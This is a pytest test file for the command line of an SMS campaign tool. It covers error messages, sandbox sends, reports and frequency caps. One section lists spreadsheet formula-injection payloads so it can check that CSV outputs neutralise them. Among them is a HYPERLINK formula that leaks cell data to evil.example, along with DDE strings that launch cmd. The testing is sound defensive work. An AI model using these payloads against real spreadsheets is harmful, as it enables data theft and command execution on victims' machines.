"""The command line: every --help, one-line user errors (exit 2, no traceback), check, plan,
send --sandbox with --report, report JOURNAL, sandbox."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import child_env, readline

import smscampaign as sc
from smscampaign.cli import build_parser, main

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_data" / "recipients.xlsx"
COMMANDS = [
    "balance",
    "bind",
    "check",
    "compare",
    "demo",
    "history",
    "home",
    "notebooks",
    "opt-outs",
    "outcomes",
    "plan",
    "receive",
    "recharge",
    "replies",
    "report",
    "review",
    "sandbox",
    "send",
    "unbind",
]
TEMPLATE = "{姓名}您好，春季会员日全场八折。回T退订"


def test_every_command_is_registered() -> None:
    choices = build_parser()._subparsers._group_actions[0].choices  # type: ignore[union-attr]
    assert sorted(choices) == COMMANDS


@pytest.mark.parametrize("command", [None, *COMMANDS])
def test_help_exits_zero(command: str | None, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--help"] if command is None else [command, "--help"])
    assert exit_info.value.code == 0
    out = capsys.readouterr().out
    assert out.startswith("usage: smscampaign")


def one_line_error(capsys: pytest.CaptureFixture[str], code: int) -> str:
    captured = capsys.readouterr()
    errors = [line for line in captured.err.splitlines() if "error:" in line]
    assert code == 2, captured.err
    assert len(errors) == 1, captured.err
    assert "Traceback" not in captured.err + captured.out
    return errors[0]


def test_missing_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    line = one_line_error(capsys, main(["check", str(tmp_path / "nope.xlsx")]))
    assert line.startswith("smscampaign check: error:") and "nope.xlsx" in line


def test_bad_template(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["plan", str(SAMPLE), "--template", "{不存在的列}您好", "--signature", "演示"])
    assert "{不存在的列}" in one_line_error(capsys, code)


def test_no_phone_column(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    names = tmp_path / "names.csv"
    names.write_text("姓名,城市\n张三,北京\n李四,上海\n", encoding="utf-8")
    line = one_line_error(capsys, main(["check", str(names)]))
    assert "phone" in line or "手机" in line


def test_missing_journal(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    one_line_error(capsys, main(["report", str(tmp_path / "none.journal")]))


def test_user_error_from_a_real_process_has_no_traceback(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "smscampaign", "check", str(tmp_path / "x.xlsx")],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


def test_check_sample_data(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out_csv = tmp_path / "checked.csv"
    assert main(["check", str(SAMPLE), "--out", str(out_csv)]) == 0
    out = capsys.readouterr().out
    assert "300 rows" in out and "手机号码" in out
    assert "ok" in out and "invalid" in out and "duplicate" in out
    text = out_csv.read_text(encoding="utf-8-sig")
    header = text.splitlines()[0].split(",")
    assert header[-7:] == ["mobile", "status", "reason", "carrier", "region", "city", "area_code"]


def test_plan_sample_data(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out_csv = tmp_path / "plan.csv"
    code = main(
        ["plan", str(SAMPLE), "--template", TEMPLATE, "--signature", "演示商城", "--out", str(out_csv)]
    )
    assert code == 0
    out = capsys.readouterr().out
    assert out.startswith("<Plan 300 recipients")
    assert "【演示商城】" in out and "fingerprint" in out
    assert out_csv.is_file()


def test_send_sandbox_with_report_then_report_journal(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    journal, report = tmp_path / "spring.journal", tmp_path / "out" / "spring.xlsx"
    code = main(
        [
            "send",
            str(SAMPLE),
            "--template",
            TEMPLATE,
            "--signature",
            "演示商城",
            "--journal",
            str(journal),
            "--sandbox",
            "--no-progress",
            "--report",
            str(report),
        ]
    )
    out = capsys.readouterr().out
    assert code == 0, out
    assert "accepted" in out and str(report) in out
    book = openpyxl.load_workbook(report)
    assert book.sheetnames[:5] == ["概览", "明细", "错误", "无效与重复", "批次"]
    assert book["明细"].max_row == 301

    again = tmp_path / "again.xlsx"
    assert main(["report", str(journal), "--out", str(again)]) == 0
    out = capsys.readouterr().out
    assert "accepted" in out and str(again) in out
    rebuilt = openpyxl.load_workbook(again)

    def accepted(workbook: openpyxl.Workbook) -> int:  # 概览's summary row for accepted
        return next(r[2] for r in workbook["概览"].iter_rows(values_only=True) if r[1] == "accepted")

    assert accepted(rebuilt) == accepted(book) > 0  # same accepted count

    assert main(["report", str(journal)]) == 0  # default: beside the journal
    assert (tmp_path / "spring-report.xlsx").is_file()


def test_sandbox_command_serves_until_stopped() -> None:
    process = subprocess.Popen(
        [sys.executable, "-m", "smscampaign", "sandbox", "--port", "0", "--account", "u:pw:5"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        url = readline(process, 60)
        assert url.startswith("http://127.0.0.1:")
        from smscampaign import Gateway

        with Gateway("u", "pw", base_url=url) as gw:
            assert gw.user_info().fields["sms_left"] == 5
    finally:
        process.terminate()
        process.wait(timeout=10)
    assert process.returncode == 0


# -- CSV written by the CLI never runs formulas (issue 16, item 4) -------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此退订")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_inert(path: Path) -> list[str]:
    import re

    cells = _cells(path)
    assert cells, path
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            assert re.fullmatch(r"[+-]\d+(\.\d+)?", cell), (path.name, cell)
    return cells


def test_every_csv_output_neutralises_formulas(
    tmp_path: Path, sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import pandas as pd

    from tests.conftest import PASSWORD, USER

    mobiles = ["13800138000", "13900139000", "15000150000", "15100151000", "15200152000", "15300153000"]
    recipients = tmp_path / "hostile.csv"
    pd.DataFrame({"姓名": HOSTILE, "手机号码": mobiles, "=备注": ["x"] * 6}).to_csv(
        recipients, index=False
    )
    numbers = tmp_path / "numbers.csv"
    pd.DataFrame({"手机号码": ["+8613800138000", "=1+2", "13900139000"]}).to_csv(numbers, index=False)
    outs = {name: tmp_path / f"{name}.csv" for name in ("check", "plan", "bind", "unbind", "replies")}
    assert main(["check", str(recipients), "--out", str(outs["check"])]) == 0
    assert (
        main(["plan", str(recipients), "--template", "{姓名}您好【店】", "--out", str(outs["plan"])])
        == 0
    )
    assert main(["bind", str(numbers), "--sandbox", "--no-progress", "--out", str(outs["bind"])]) in (
        0,
        1,
    )
    assert main(
        ["unbind", str(numbers), "--sandbox", "--no-progress", "--out", str(outs["unbind"])]
    ) in (
        0,
        1,
    )
    # Replies: anyone who can text the number controls their content.
    monkeypatch.setenv("SMSCAMPAIGN_USERNAME", USER)
    monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", PASSWORD)
    monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", sandbox.url)
    with sandbox.gateway(USER, PASSWORD) as gw:
        gw.bind_mobile(mobiles)
    for mobile, text in zip(mobiles, HOSTILE, strict=True):
        assert sandbox.reply(mobile, text, USER)
    store = tmp_path / "replies.sqlite"
    assert main(["replies", "--store", str(store), "--out", str(outs["replies"])]) == 0
    opt_out_csv = tmp_path / "opt-outs.csv"
    assert main(["opt-outs", "--store", str(store), "--out", str(opt_out_csv)]) == 0
    capsys.readouterr()

    for path in [*outs.values(), opt_out_csv]:
        _assert_inert(path)
    for name in ("check", "plan", "replies"):
        cells = _cells(outs[name])
        assert "'" + HOSTILE[0] in cells or any(c.startswith("'" + HOSTILE[0]) for c in cells), name
        assert "'-2+3" in cells or any(c.startswith("'-2+3") for c in cells), name
    assert "'=备注" in _cells(outs["check"])  # column names from the file too
    # The data is otherwise intact: the prefix is the only change, and numbers keep their form.
    replies = _cells(outs["replies"])
    # (XML turns the CR of a fetched reply into LF; a leading LF is neutralised too)
    assert "'\t=1+1" in replies and ("'\r=1+1" in replies or "'\n=1+1" in replies)
    assert "+8613800138000" in _cells(outs["bind"]) and "'=1+2" in _cells(outs["bind"])


def test_csv_safe_does_not_mutate_and_keeps_types() -> None:
    import pandas as pd

    from smscampaign.cli.output import csv_safe

    frame = pd.DataFrame(
        {"t": pd.array(["=1", None, "ok"], dtype="string"), "n": [-1, 2, 3], "o": ["@x", "+86 138", "-"]}
    )
    before = frame.copy()
    safe = csv_safe(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert safe["t"].tolist()[0] == "'=1" and pd.isna(safe["t"].iloc[1]) and safe["t"].dtype == "string"
    assert safe["n"].tolist() == [-1, 2, 3]
    assert safe["o"].tolist() == ["'@x", "'+86 138", "'-"]


# -- exit codes by error kind (issue 11, item 4) ----------------------------------------------------


def test_report_of_a_file_that_is_not_a_journal_exits_2(tmp_path: Path, capsys) -> None:
    bogus = tmp_path / "notajournal.csv"
    bogus.write_text("a,b\n1,2\n", encoding="utf-8")
    assert main(["report", str(bogus)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "journal" in err and "Traceback" not in err


def test_exit_codes_by_error_kind() -> None:
    import smscampaign as sc
    from smscampaign.cli import exit_code

    assert exit_code(sc.ConfigError("x")) == 2
    assert exit_code(sc.RecipientsError("x")) == 2
    assert exit_code(sc.JournalError("x")) == 2
    assert exit_code(sc.GatewayProtocolError("x")) == 1  # the gateway's fault, not the user's
    assert exit_code(sc.AccountError("x", code=-103)) == 1
    assert exit_code(FileNotFoundError("x")) == 2
    assert exit_code(ValueError("a bug")) is None
    assert exit_code(KeyError("a bug")) is None


def test_a_broken_gateway_answer_exits_1_and_says_gateway(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    from tests.test_gateway import http, scripted_server

    def answer(request: bytes, sock, stop) -> None:
        sock.sendall(http(b"<html><result>1</result></html>"))

    with scripted_server(answer) as (url, _):
        monkeypatch.setenv("SMSCAMPAIGN_USERNAME", "u")
        monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", "p")
        monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", url)
        assert main(["balance"]) == 1
    err = capsys.readouterr().err
    assert "gateway error" in err and ("root element" in err or "not the gateway's XML" in err)


def test_unreachable_sandbox_url_is_named(monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    from tests.test_gateway import free_port

    url = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setenv("SMSCAMPAIGN_USERNAME", "u")
    monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", "p")
    monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", url)
    assert main(["balance"]) == 1
    err = capsys.readouterr().err
    assert url in err and "sandbox is running" in err


def test_a_real_bug_shows_its_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    import smscampaign.cli as cli

    def broken(args) -> int:
        raise ValueError("a bug, not the user's mistake")

    parser = cli.build_parser()
    monkeypatch.setattr(cli, "build_parser", lambda: parser)
    parser._subparsers._group_actions[0].choices["check"].set_defaults(func=broken)  # type: ignore[union-attr]
    with pytest.raises(ValueError, match="a bug"):
        cli.main(["check", "x.csv"])


# -- the analyst's path as real processes: plan, send, re-run, report (issue 17) ------------------


def _cli(*argv: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m smscampaign ARGV`` as a child process (the venv's interpreter, this checkout)."""
    return subprocess.run(
        [sys.executable, "-m", "smscampaign", *argv],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        cwd=cwd,
    )


def test_plan_send_rerun_report_as_processes_against_a_standalone_sandbox(tmp_path: Path) -> None:
    import re

    import requests

    server = subprocess.Popen(
        [sys.executable, "-m", "smscampaign.sandbox", "--port", "0", "--account", "demo:secret:25"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=child_env(),
    )
    try:
        url = readline(server, 60)
        assert url.startswith("http://127.0.0.1:")
        people = tmp_path / "people.csv"
        rows = "\n".join(f"客户{i},139{i:08d}" for i in range(40))
        people.write_text(f"姓名,手机\n{rows}\n坏号,12\n", encoding="utf-8")
        campaign = [str(people), "--template", "{姓名}您好，会员日八折", "--signature", "小店"]
        env = child_env(SMSCAMPAIGN_USERNAME="demo", SMSCAMPAIGN_PASSWORD="secret")
        send = ["send", *campaign, "--base-url", url, "--batch-size", "10", "--no-progress"]

        plan = _cli("plan", *campaign, env=env, cwd=tmp_path)
        assert plan.returncode == 0, plan.stderr
        assert plan.stdout.startswith("<Plan 41 recipients")
        assert re.search(r"ready\s+40", plan.stdout) and re.search(r"invalid\s+1", plan.stdout)

        # 25 messages on the account: 25 go out (one request per name), the 26th is refused (-107).
        first = _cli(*send, "--allow-partial", env=env, cwd=tmp_path)
        assert first.returncode == 1, first.stdout + first.stderr  # re-running can send the rest
        assert "new campaign: 25 sent now (15 not sent)" in first.stdout
        journal = re.search(r"^journal: (\S+) \(new;", first.stdout, re.MULTILINE)
        assert journal, first.stdout
        assert Path(journal.group(1)).is_file()

        recharge = requests.post(
            f"{url}/_sandbox/balance", json={"account": "demo", "delta": 100}, timeout=10
        )
        recharge.raise_for_status()
        again = _cli(*send, env=env, cwd=tmp_path)  # the same command, no --journal: resumes
        assert again.returncode == 0, again.stdout + again.stderr
        assert f"journal: {journal.group(1)} (resumed;" in again.stdout
        assert "resumed: 25 accepted earlier, 15 sent now, nobody twice" in again.stdout

        report = _cli(
            "report", journal.group(1), "--out", str(tmp_path / "r.xlsx"), env=env, cwd=tmp_path
        )
        assert report.returncode == 0, report.stderr
        assert "last run: resumed: 25 accepted earlier, 15 sent now, nobody twice" in report.stdout
        assert re.search(r"accepted\s+已受理\s+40", report.stdout), report.stdout
        assert f"report written to {tmp_path / 'r.xlsx'}" in report.stdout

        ledger = requests.get(f"{url}/_sandbox/ledger", timeout=10).json()
        receivers = [row["receiver"] for row in ledger]
        assert len(receivers) == len(set(receivers)) == 40  # everyone once, nobody twice

        missing = _cli("report", str(tmp_path / "none.journal"), env=env, cwd=tmp_path)
        assert missing.returncode == 2 and "Traceback" not in missing.stderr
    finally:
        server.kill()
        server.wait()
        server.stdout.close()  # type: ignore[union-attr]


# -- every send --sandbox run is one gateway to the send registry -------------------------------------


def _send_sandbox(people: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    code = main(
        [
            "send",
            str(people),
            "--template",
            "{姓名}您好，会员日八折",
            "--signature",
            "小店",
            "--sandbox",
            "--no-progress",
            *extra,
        ]
    )
    return code, capsys.readouterr().out


def test_sandbox_runs_share_one_registry_key_so_another_journal_sends_nobody_twice(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each --sandbox run starts a sandbox on a new port; the registry still sees them as one gateway."""
    import pandas as pd

    import smscampaign as sc
    from smscampaign.cli.common import SANDBOX_REGISTRY_KEY

    people = tmp_path / "people.csv"
    mobiles = ["13800138000", "13900139000", "15000150000"]
    pd.DataFrame({"姓名": ["张三", "李四", "王五"], "手机号码": mobiles}).to_csv(people, index=False)

    code, out = _send_sandbox(people, capsys, "--report", str(tmp_path / "r.xlsx"))
    assert code == 0, out
    assert "new campaign: 3 sent now" in out
    assert "sandbox: 3 messages delivered by this run" in out  # the first sandbox's ledger

    other = tmp_path / "other.journal"
    second_report = tmp_path / "other.xlsx"
    code, out = _send_sandbox(people, capsys, "--journal", str(other), "--report", str(second_report))
    assert code == 0, out
    assert "sandbox: 0 messages delivered by this run" in out  # the second sandbox sent nothing
    assert "new campaign: 0 sent now (3 already sent)" in out
    assert (
        f"3 recipients already got this content through this gateway ({SANDBOX_REGISTRY_KEY}: "
        "every --sandbox run) within 24h from another journal, so they were skipped" in out
    )
    results = sc.read_journal(other)
    assert results["status"].tolist() == ["already_sent"] * 3
    assert sorted(results["mobile"]) == sorted(mobiles)
    assert (results["attempts"] == 0).all() and results["sent_at"].isna().all()  # never requested
    why = (
        rf"already sent the same content at 20\d\d-\S+ \S+ \(Beijing\) "
        rf"through {SANDBOX_REGISTRY_KEY} by campaign {results.attrs['fingerprint'][:12]}"
    )
    assert results["reason"].str.match(why).all()
    # The second run's report says why, in English and Chinese.
    detail = list(openpyxl.load_workbook(second_report)["明细"].iter_rows(values_only=True))
    rows = [dict(zip(detail[0], row, strict=True)) for row in detail[1:]]
    assert len(rows) == 3
    for row in rows:
        assert row["状态 status"] == "already_sent" and row["中文状态 status (zh)"] == "已发过，未重发"
        assert f"through {SANDBOX_REGISTRY_KEY} by campaign" in row["原因 reason"]
        assert "通过同一网关发过相同内容，未重复发送" in row["中文原因 reason (zh)"]

    # The first command again (its journal found by the plan in the home): resumes, sends nobody.
    code, out = _send_sandbox(people, capsys)
    assert code == 0, out
    assert "resumed: 3 accepted earlier, 0 sent now, nobody twice" in out
    assert "sandbox: 0 messages delivered by this run" in out

    # Asked for: --allow-repeat sends again, through yet another sandbox.
    again = str(tmp_path / "again.journal")
    code, out = _send_sandbox(people, capsys, "--journal", again, "--allow-repeat")
    assert code == 0, out
    assert "sandbox: 3 messages delivered by this run" in out


# -- issue 28: rough edges of the command line --------------------------------------------------


def test_plan_on_too_long_error_names_the_flag_not_the_python_keyword(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "x.csv"
    path.write_text("手机,姓名\n13800000001,张三\n", encoding="utf-8")
    too_long = "{姓名}" + "春季会员日全场商品八折起" * 6
    code = main(["plan", str(path), "--template", too_long, "--on-too-long", "error"])
    err = capsys.readouterr().err
    assert code == 2
    assert "e.g. row 2" in err and "--on-too-long truncate" in err
    assert "on_too_long=" not in err
    # The library keeps its own wording for Python callers.
    raw = pd.DataFrame({"手机": ["13800000001"], "姓名": ["张三"]})
    frame = sc.check_numbers(sc.load_recipients(raw))
    with pytest.raises(sc.TemplateError, match="on_too_long='truncate'"):
        sc.plan_campaign(frame, too_long, on_too_long="error")


def test_send_and_report_leave_no_lock_nor_wal_files_and_print_percentages(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    people = tmp_path / "people.csv"
    people.write_text("手机,姓名\n13800000001,张三\n13800000002,李四\n138000,王五\n", encoding="utf-8")
    journal = tmp_path / "spring.journal"
    code, out = _send_sandbox(people, capsys, "--journal", str(journal))
    assert code == 0, out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["people.csv", "spring.journal"]  # no .lock
    assert main(["report", str(journal), "--out", str(tmp_path / "r.xlsx")]) == 0
    out = capsys.readouterr().out
    # No -wal / -shm left by the read-only journal.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["people.csv", "r.xlsx", "spring.journal"]
    # Shares as percentages: 2 of 3 accepted, 1 invalid.
    assert "66.7%" in out and "33.3%" in out and "0.6667" not in out


def test_report_on_a_journal_in_the_campaign_home_writes_into_reports_here(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from smscampaign.memory.home import home_dir

    people = tmp_path / "people.csv"
    people.write_text("手机,姓名\n13800000001,张三\n", encoding="utf-8")
    code, out = _send_sandbox(people, capsys)  # no --journal: the plan's journal in the home
    assert code == 0, out
    journals = list((home_dir() / "journals").glob("*.journal"))
    assert len(journals) == 1
    here = tmp_path / "work"
    here.mkdir()
    monkeypatch.chdir(here)
    assert main(["report", str(journals[0])]) == 0
    out = capsys.readouterr().out
    written = list((here / "reports").glob("*-report.xlsx"))
    assert len(written) == 1 and written[0].name == f"{journals[0].stem[:12]}-report.xlsx"
    assert not list(journals[0].parent.glob("*.xlsx"))  # nothing in the hidden home
    assert f"report written to reports/{written[0].name} ({written[0]}" in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["plan", "x.csv", "--tempalte", "a"], "unknown option --tempalte, did you mean --template?"),
        (["send", "x.csv", "--template", "a", "--jornal", "j"], "did you mean --journal?"),
        (["report", "j", "--outt", "r.xlsx"], "unknown option --outt, did you mean --out?"),
        (["check", "x.csv", "--zzzz"], "unknown option --zzzz (see smscampaign check --help)"),
    ],
)
def test_an_unknown_option_such_as_tempalte_suggests_template(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert message in err and "required" not in err


def test_home_info_says_where_a_personal_home_is_and_what_it_holds(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["home", "info"]) == 0
    out = capsys.readouterr().out
    assert f"home:           {home / 'home.sqlite'}" in out and "kind:           sqlite" in out
    assert "not created yet" in out and not (home / "home.sqlite").exists()  # info creates nothing

    people = tmp_path / "people.csv"
    people.write_text("姓名,手机号码\n张三,13800138000\n李四,13900139000\n", encoding="utf-8")
    code, out = _send_sandbox(people, capsys)
    assert code == 0, out
    assert main(["home", "info"]) == 0
    out = capsys.readouterr().out
    assert "campaigns:      1" in out and "messages:       2" in out and "schema version: " in out


def test_home_copy_refuses_anything_but_a_folder_into_a_postgresql_url(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["home", "copy", str(tmp_path), str(tmp_path / "other")]) == 2
    err = capsys.readouterr().err
    assert "FROM must be a folder and TO a PostgreSQL URL" in err


@pytest.mark.parametrize(
    ("cap", "why"),
    [
        (["--frequency-cap", "0/7d"], "0 messages: everyone would be capped"),
        (["--frequency-cap", "3/0d"], "a window of 0d: nobody would be capped"),
        (["--frequency-cap", "-1/7d"], "a negative count"),
        (["--frequency-cap=-1/7d"], "a negative count"),
        (["--frequency-cap", "3/-7d"], "a negative window"),
        (["--frequency-cap", "3 per week"], "write messages/window"),
    ],
)
def test_plan_refuses_a_nonsense_frequency_cap_with_the_format(
    cap: list[str], why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 28, item 20: each refused in one line that gives the format (``-1/7d`` too, which
    argparse alone takes for an option)."""
    people = tmp_path / "people.csv"
    people.write_text("手机\n13800000001\n", encoding="utf-8")
    with pytest.raises(SystemExit) as exit_info:  # argparse's own refusal: usage, then the line
        main(["plan", str(people), "--template", "你好", "--signature", "小店", *cap])
    line = one_line_error(capsys, exit_info.value.code)
    assert "--frequency-cap" in line and why in line and "e.g. 3/7d, 2/24h, 1/2w" in line


def test_plan_takes_a_good_frequency_cap(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    people = tmp_path / "people.csv"
    people.write_text("手机\n13800000001\n", encoding="utf-8")
    assert (
        main(
            [
                "plan",
                str(people),
                "--template",
                "你好",
                "--signature",
                "小店",
                "--frequency-cap",
                "2/24h",
            ]
        )
        == 0
    )


def test_outcomes_command_prints_the_verdicts_and_writes_the_sheet(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from datetime import timedelta

    import numpy as np
    import pandas as pd
    from test_outcomes import T0, people_frame, record_campaign

    import smscampaign as sc
    from smscampaign.memory.home import SQLiteStore

    rng = np.random.default_rng(1)
    rows = [
        (f"139{i:08d}", "A" if i % 5 else "holdout", "accepted" if i % 5 else "holdout")
        for i in range(3000)
    ]
    with SQLiteStore(home) as store:
        record_campaign(store, "f1", "spring", people_frame(rows), T0)
    buyers = [m for m, arm, _ in rows if rng.random() < (0.12 if arm == "A" else 0.04)]
    orders = pd.DataFrame(
        {"手机号码": buyers, "下单时间": [str(T0 + timedelta(days=2))[:19]] * len(buyers), "金额": 100}
    )
    path = tmp_path / "orders.csv"
    orders.to_csv(path, index=False)
    out = tmp_path / "outcomes.xlsx"
    argv = ["outcomes", "spring", "--orders", str(path), "--window", "14d", "--value", "金额"]
    assert main([*argv, "--out", str(out), "--plot", str(tmp_path / "lift.png")]) == 0
    printed = capsys.readouterr().out
    assert "A 比不发短信多" in printed and "A beats not texting" in printed
    expected = sc.measure_outcomes("spring", path, window="14D", value="金额")
    sheet = pd.read_excel(out, sheet_name="转化")
    assert sheet["转化人数 converted"].tolist() == expected["converted"].tolist()
    assert sheet["结论"].tolist() == expected["verdict_zh"].tolist()
    assert (tmp_path / "lift.png").stat().st_size > 0
    assert main([*argv[:4], "--window", "14"]) == 2
    assert "window must be a duration" in one_line_error(capsys, 2)
    assert main([*argv[:4], "--key", "会员号"]) == 2
    assert "no column '会员号'" in one_line_error(capsys, 2)
